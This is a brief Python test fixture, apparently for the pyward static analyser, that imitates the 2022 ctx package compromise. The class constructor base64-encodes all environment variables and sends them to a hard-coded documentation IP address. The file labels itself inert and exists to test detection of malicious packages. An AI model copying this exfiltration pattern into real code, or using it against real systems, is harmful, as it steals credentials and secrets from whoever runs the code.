# INERT test sample for pyward's static analysis: never run it. Modelled on ctx 0.2.2 (2022): environment variables sent to a hard-coded URL.
# Documented: https://python-security.readthedocs.io/pypi-vuln/index-2022-05-24-ctx-domain-takeover.html
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, base64, requests

class Ctx(dict):
    def __init__(self):
        self.sendRequest()

    def sendRequest(self):
        data = base64.b64encode(str(dict(os.environ)).encode()).decode()
        requests.get('http://198.51.100.80/ctx?d=' + data)
